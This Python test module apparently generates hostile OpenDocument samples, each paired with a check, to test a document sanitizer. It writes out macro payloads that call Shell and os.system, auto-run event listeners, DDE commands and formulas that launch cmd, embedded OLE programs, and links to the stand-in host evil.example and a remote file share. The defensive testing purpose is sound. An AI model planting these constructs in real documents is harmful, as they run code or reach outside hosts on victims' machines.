"""Macros, and what reaches outside, in OpenDocument files."""

from random import Random

from .. import open_documents
from ..case import Outcome, hostile
from ..compound import compound_file
from ..open_documents import first_paragraph
from ..packages import Package, has_member, packed, replaced
from .disguises import PROGRAM
from .office import changed
from .xml_parts import any_part

BASIC = (
    b'<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" '
    b'script:language="StarBasic">Sub Main\nShell("calc")\nEnd Sub</script:module>'
)


def _declare(package: Package, part: str, kind: str = "text/xml") -> None:
    entry = f'<manifest:file-entry manifest:full-path="{part}" manifest:media-type="{kind}"/>'
    replaced(package, "META-INF/manifest.xml", "</manifest:manifest>", f"{entry}</manifest:manifest>")


def _basic(package: Package, rng: Random) -> None:
    package["Basic/Standard/Module1.xml"] = BASIC
    _declare(package, "Basic/Standard/Module1.xml")


def _python(package: Package, rng: Random) -> None:
    package["Scripts/python/run.py"] = b"import os\nos.system('id')\n"
    _declare(package, "Scripts/python/run.py", "")


def _event(package: Package, rng: Random) -> None:
    event = (
        '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:run.py$main?language=Python&amp;location=user"/>'
        "</office:event-listeners></office:scripts><office:automatic-styles>"
    )
    replaced(package, "content.xml", "<office:automatic-styles>", event)


for ending in ("odt", "ods", "odp"):
    hostile(f"Basic macros in {ending}", has_member("Module1.xml"))(changed(ending, _basic))
hostile("Python macros in odt", has_member("run.py"))(changed("odt", _python))
hostile("a macro when odt is opened", any_part("vnd.sun.star.script"))(changed("odt", _event))


def _object(package: Package, rng: Random) -> None:
    package["Object 1"] = compound_file({"\x01Ole10Native": PROGRAM})
    _declare(package, "Object 1", "application/vnd.sun.star.oleobject")
    first_paragraph(
        package, '<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p>'
    )


def _plugin(package: Package, rng: Random) -> None:
    first_paragraph(
        package, '<text:p><draw:frame><draw:plugin xlink:href="https://evil.example/x.swf"/></draw:frame></text:p>'
    )


def _applet(package: Package, rng: Random) -> None:
    first_paragraph(package, '<text:p><draw:frame><draw:applet draw:code="X.class"/></draw:frame></text:p>')


def _section(package: Package, rng: Random) -> None:
    source = '<text:section-source xlink:href="file://203.0.113.9/share/x.odt"/>'
    first_paragraph(package, f'<text:section text:name="S">{source}</text:section>')


def _dde_section(package: Package, rng: Random) -> None:
    source = '<office:dde-source office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/>'
    first_paragraph(package, f'<text:section text:name="S">{source}</text:section>')


def _dde_sheet(package: Package, rng: Random) -> None:
    link = (
        '<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" '
        'office:dde-topic="/c calc" office:dde-item="x"/></table:dde-link></table:dde-links></office:spreadsheet>'
    )
    replaced(package, "content.xml", "</office:spreadsheet>", link)


def _far_sheet(package: Package, rng: Random) -> None:
    source = (
        '<table:table-source xlink:href="https://evil.example/x.ods" table:table-name="A"/><table:table-column/>'
    )
    replaced(package, "content.xml", "<table:table-column/>", source)


def _formula(package: Package, rng: Random) -> None:
    cell = '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/>'
    replaced(package, "content.xml", "</table:table-row>", f"{cell}</table:table-row>")


def _far_picture(package: Package, rng: Random) -> None:
    first_paragraph(
        package, '<text:p><draw:frame><draw:image xlink:href="https://evil.example/p.png"/></draw:frame></text:p>'
    )


def _link(package: Package, rng: Random) -> None:
    first_paragraph(
        package, '<text:p><text:a xlink:href="vnd.sun.star.script:x?language=Basic">go</text:a></text:p>'
    )


def _runs(package: Package, rng: Random) -> None:
    event = (
        '<office:event-listeners><presentation:event-listener script:event-name="dom:click" '
        'presentation:action="execute" xlink:href="file:///C:/Windows/cmd.exe"/></office:event-listeners>'
    )
    replaced(package, "content.xml", "</draw:text-box>", f"</draw:text-box>{event}")


def _version(package: Package, rng: Random) -> None:
    earlier = open_documents.text(rng)
    _basic(earlier, rng)
    package["Versions/Version1"] = packed(earlier)


hostile("macros in an earlier version of odt", has_member("Versions/Version1"))(changed("odt", _version))
hostile("a program as an object in odt", has_member("Object 1"))(changed("odt", _object))
hostile("a plug-in in odt", any_part("draw:plugin"))(changed("odt", _plugin))
hostile("an applet in odt", any_part("draw:applet"))(changed("odt", _applet))
hostile("a section from another server in odt", any_part("section-source"))(changed("odt", _section))
hostile("a DDE section in odt", any_part("dde-source"))(changed("odt", _dde_section))
hostile("a DDE link in ods", any_part("dde-source"))(changed("ods", _dde_sheet))
hostile("a sheet from another server in ods", any_part("table-source"), Outcome.EITHER)(changed("ods", _far_sheet))
hostile("a formula that starts a program in ods", any_part("of:=DDE"), Outcome.EITHER)(changed("ods", _formula))
hostile("a picture from another server in odt", any_part("evil.example"), Outcome.EITHER)(
    changed("odt", _far_picture)
)
hostile("a link that runs a macro in odt", any_part("vnd.sun.star.script"))(changed("odt", _link))
hostile("a slide that starts a program in odp", any_part("cmd.exe"))(changed("odp", _runs))
